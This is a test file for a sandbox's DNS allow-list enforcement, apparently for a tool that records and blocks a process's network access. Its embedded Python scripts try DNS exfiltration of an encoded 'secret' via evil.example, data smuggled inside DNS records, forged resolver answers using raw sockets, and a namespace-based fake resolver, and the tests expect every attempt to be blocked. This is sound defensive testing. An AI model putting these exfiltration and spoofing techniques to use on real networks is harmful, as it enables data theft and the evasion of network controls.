import type { Answer } from "dns-packet";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { BlockPolicy } from "../../src/index.js";
import { listenDns, type Zone } from "../capture/dns-server.js";
import { type Listening, listenTcp } from "../capture/listen.js";
import { ofType, record } from "../capture/record.js";

const resolver = "127.88.0.53";
const stranger = "127.88.0.54";
/** Of the policy, and nobody listens there. */
const unusedResolver = "127.88.0.55";
const lookups = 1_000;
const denied = "PermissionError";

const address = (name: string, data: string): Answer => ({ type: "A", name, ttl: 60, data });
const address6 = (name: string, data: string): Answer => ({ type: "AAAA", name, ttl: 60, data });

/** A fresh name for each lookup, and an address that no other has. */
const numbered = Array.from({ length: lookups }, (_, number) => ({
  name: `host-${number}.fresh.example`,
  ip: `127.88.${1 + (number >> 8)}.${number & 255}`,
}));

const zone: Zone = {
  ...Object.fromEntries(numbered.map(({ name, ip }) => [name, { answers: [address(name, ip)] }])),
  "exact.example": { answers: [address("exact.example", "127.88.20.1")] },
  "six.example": { answers: [address6("six.example", "::1")] },
  "deep.er.wild.example": { answers: [address("deep.er.wild.example", "127.88.20.2")] },
  "wild.example": { answers: [address("wild.example", "127.88.20.3")] },
  "worker12.pool.example": { answers: [address("worker12.pool.example", "127.88.20.4")] },
  "a.worker12.pool.example": { answers: [address("a.worker12.pool.example", "127.88.20.5")] },
  "alias.example": {
    answers: [
      { type: "CNAME", name: "alias.example", ttl: 60, data: "edge.elsewhere.example" },
      { type: "CNAME", name: "edge.elsewhere.example", ttl: 60, data: "x.elsewhere.example" },
      address("x.elsewhere.example", "127.88.20.6"),
      address("x.elsewhere.example", "127.88.20.7"),
    ],
  },
  "long.example": {
    onlyOverTcp: true,
    answers: Array.from({ length: 60 }, (_, each) => address("long.example", `127.88.21.${each}`)),
  },
  "evil.example": { answers: [address("evil.example", "127.88.20.8")] },
};

const policy: BlockPolicy = {
  allow: [
    "exact.example:4443",
    "six.example:4443",
    "*.wild.example",
    "worker*.pool.example:4443",
    "alias.example:4443",
    "long.example:4443",
    "*.fresh.example:4443",
    "localhost:4443",
    "127.88.30.1",
  ],
  resolvers: [resolver, unusedResolver],
  loopback: false,
};

/** Asks with a resolver of its own, as a program does that does not use the C library; `ask` gives the first address. */
const client = `
import os, socket, struct, sys
def question(name, kind=1, number=7):
  labels = b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
  return struct.pack("!HHHHHH", number, 0x100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, kind, 1)
def answered(message, kind=1):
  at = 12
  while message[at]: at += message[at] + 1
  at += 5
  found = []
  for _ in range(struct.unpack_from("!H", message, 6)[0]):
    while message[at] and message[at] < 192: at += message[at] + 1
    at += 2 if message[at] else 1
    type, _, _, size = struct.unpack_from("!HHIH", message, at)
    if type == kind: found.append(socket.inet_ntop(socket.AF_INET if kind == 1 else socket.AF_INET6, message[at + 10:at + 10 + size]))
    at += 10 + size
  return found
def ask(name, kind=1, server="${resolver}"):
  with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(5)
    s.connect((server, 53))
    s.send(question(name, kind))
    return answered(s.recv(4096), kind)
def receive(s, size):
  data = b""
  while len(data) < size: data += s.recv(size - len(data))
  return data
def ask_by_tcp(name):
  with socket.create_connection(("${resolver}", 53)) as s:
    asked = question(name)
    s.sendall(struct.pack("!H", len(asked)) + asked)
    return answered(receive(s, struct.unpack("!H", receive(s, 2))[0]))
def call(host, port=4443):
  with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET) as s: s.connect((host, port))
def tell(what, work):
  try: print(what, work() or "ok")
  except OSError as error: print(what, type(error).__name__)
`;

describe("names in block mode", () => {
  const servers: Listening[] = [];
  beforeAll(async () => {
    servers.push(
      await listenDns(resolver, zone),
      await listenDns(stranger, { "exact.example": zone["evil.example"] ?? { answers: [] } }),
      await listenTcp("::", (socket) => socket.resume(), 4443),
      await listenTcp("::", (socket) => socket.resume(), 4444),
    );
  });
  afterAll(() => Promise.all(servers.map((server) => server.close())));

  const run = async (script: string) => {
    const recording = await record(["/usr/bin/python3", "-c", client + script], { policy });
    const told = recording.output.trim().split("\n").filter(Boolean);
    return { recording, told: Object.fromEntries(told.map((line) => line.split(" "))) };
  };

  it(`can be called at once after each of ${lookups} first lookups`, async () => {
    const { told } = await run(`
failed = 0
for number in range(${lookups}):
  [host] = ask(f"host-{number}.fresh.example")
  try: call(host)
  except OSError: failed += 1
print("failed", failed)`);
    expect(told).toEqual({ failed: "0" });
  });

  it("are allowed exactly, below a domain, and by how they begin, with their ports and no others", async () => {
    const { told } = await run(`
tell("before", lambda: call("127.88.20.1"))
tell("exact", lambda: call(ask("exact.example")[0]))
tell("upper", lambda: call(ask("EXACT.eXample")[0]))
tell("port", lambda: call("127.88.20.1", 4444))
tell("six", lambda: call(ask("six.example", 28)[0]))
tell("below", lambda: call(ask("deep.er.wild.example")[0], 4444))
tell("itself", lambda: ask("wild.example"))
tell("begun", lambda: call(ask("worker12.pool.example")[0]))
tell("deeper", lambda: ask("a.worker12.pool.example"))
tell("hosts", lambda: call("127.0.0.1"))
tell("range", lambda: call("127.88.30.1", 4444))
tell("beside", lambda: call("127.88.30.2"))`);
    expect(told).toEqual({
      before: denied,
      exact: "ok",
      upper: "ok",
      port: denied,
      six: "ok",
      below: "ok",
      itself: denied,
      begun: "ok",
      deeper: denied,
      hosts: "ok",
      range: "ok",
      beside: denied,
    });
  });

  it("bring all addresses of their answer, over UDP and TCP", async () => {
    const { told } = await run(`
tell("alias", lambda: [call(each) for each in ask("alias.example")][2:])
tell("long", lambda: [call(each) for each in ask_by_tcp("long.example")][60:])
tell("beside", lambda: call("127.88.21.60"))`);
    expect(told).toEqual({ alias: "ok", long: "ok", beside: denied });
  });

  it("are not learned from a stranger, nor from the process itself under a resolver's address", async () => {
    const { told } = await run(`
tell("stranger", lambda: ask("exact.example", server="${stranger}"))
evil = question("exact.example")
forged = evil[:2] + b"\\x81\\x80\\0\\1\\0\\1" + evil[8:] + b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\x3c\\0\\4" + socket.inet_aton("127.88.20.8")
asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asker.settimeout(0.3)
asker.bind(("127.88.30.1", 0))
asker.connect(("${resolver}", 53))
datagram = struct.pack("!HHHH", 53, asker.getsockname()[1], 8 + len(forged), 0) + forged
header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 0, 0, 64, 17, 0, socket.inet_aton("${resolver}"), socket.inet_aton("127.88.30.1"))
tell("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).sendto(header + datagram, ("127.88.30.1", 0)))
tell("forged", lambda: call("127.88.20.8"))`);
    expect(told).toEqual({ stranger: denied, raw: denied, forged: denied });
  });

  it("are not learned from a process that listens where a resolver of this machine would, over TCP", async () => {
    const { told } = await run(`
listening = socket.create_server(("${unusedResolver}", 53))
asker = socket.create_connection(("${unusedResolver}", 53))
asker.settimeout(0.5)
server, _ = listening.accept()
asked = question("exact.example")
asker.sendall(struct.pack("!H", len(asked)) + asked)
receive(server, 2 + len(asked))
forged = asked[:2] + b"\\x81\\x80\\0\\1\\0\\1" + asked[8:] + b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\x3c\\0\\4" + socket.inet_aton("127.88.20.8")
server.sendall(struct.pack("!H", len(forged)) + forged)
tell("answered", lambda: asker.recv(1))
tell("call", lambda: call("127.88.20.8"))`);
    expect(told).toEqual({ answered: "TimeoutError", call: denied });
  });

  it("are not learned from a process that is a resolver in a network namespace of its own", async () => {
    const { told } = await run(`
import ctypes, fcntl, threading
outside = os.open("/proc/self/ns/net", os.O_RDONLY)
libc = ctypes.CDLL(None)
assert libc.unshare(0x40000000) == 0
fcntl.ioctl(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), 0x8914, struct.pack("16sH14x", b"lo", 1))
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("${resolver}", 53))
def answer():
  asked, asker = server.recvfrom(512)
  forged = asked[:2] + b"\\x81\\x80\\0\\1\\0\\1" + asked[8:] + b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\x3c\\0\\4" + socket.inet_aton("127.88.20.8")
  tell("answered", lambda: server.sendto(forged, asker) and None)
asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asker.connect(("${resolver}", 53))
asker.send(question("exact.example"))
answer()
assert libc.setns(outside, 0x40000000) == 0
tell("call", lambda: call("127.88.20.8"))`);
    expect(told).toEqual({ answered: denied, call: denied });
  });

  it("are not asked for with more behind them: a second question that the kernel cuts off, bytes, records", async () => {
    const { told, recording } = await run(`
allowed, secret = question("exact.example"), question("c2VjcmV0.evil.example")
options = b"\\0\\0\\x29\\x04\\xd0\\0\\0\\0\\0\\0\\0"
text = b"\\0\\0\\x10\\0\\1\\0\\0\\0\\0\\0\\7\\6secret"
def with_record(record): return allowed[:11] + b"\\1" + allowed[12:] + record
def send(message, cut=0):
  with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    if cut: s.setsockopt(17, 103, cut) # UDP_SEGMENT
    s.sendto(message, ("${resolver}", 53))
tell("alone", lambda: send(allowed))
tell("options", lambda: send(with_record(options)))
tell("cut", lambda: send(allowed.ljust(len(secret), b"\\0") + secret, len(secret)))
tell("bytes", lambda: send(allowed + b"secret"))
tell("record", lambda: send(with_record(text)))
tell("behind", lambda: send(with_record(options) + b"secret"))`);
    expect(told).toEqual({
      alone: "ok",
      options: "ok",
      cut: denied,
      bytes: denied,
      record: denied,
      behind: denied,
    });
    const results = ofType(recording, "network.result").filter(
      ({ result }) => result === "blocked",
    );
    expect(results).toHaveLength(4);
  });

  it("that are not allowed are not even asked for, and the question is told", async () => {
    const { told, recording } = await run(`
tell("udp", lambda: ask("c2VjcmV0.evil.example"))
tell("text", lambda: ask("evil.example", 16))
tell("below", lambda: ask("data.exact.example"))
tell("junk", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret" * 10, ("${resolver}", 53)))
s = socket.create_connection(("${resolver}", 53))
s.settimeout(0.5)
asked = question("c2VjcmV0.evil.example")
s.sendall(struct.pack("!H", len(asked)) + asked)
tell("tcp", lambda: s.recv(1))`);
    expect(told).toEqual({
      udp: denied,
      text: denied,
      below: denied,
      junk: denied,
      tcp: "TimeoutError",
    });
    const blocked = ofType(recording, "network.result")
      .filter(({ result }) => result === "blocked")
      .map(({ connection }) => connection.id);
    const names = ofType(recording, "network.connect")
      .filter(({ connection }) => blocked.includes(connection.id))
      .map(({ destination, network }) => `${network.transport} ${destination.domain ?? ""}`);
    expect([...new Set(names)].sort()).toEqual([
      "tcp c2vjcmv0.evil.example",
      "udp ",
      "udp c2vjcmv0.evil.example",
      "udp data.exact.example",
      "udp evil.example",
    ]);
  });
});
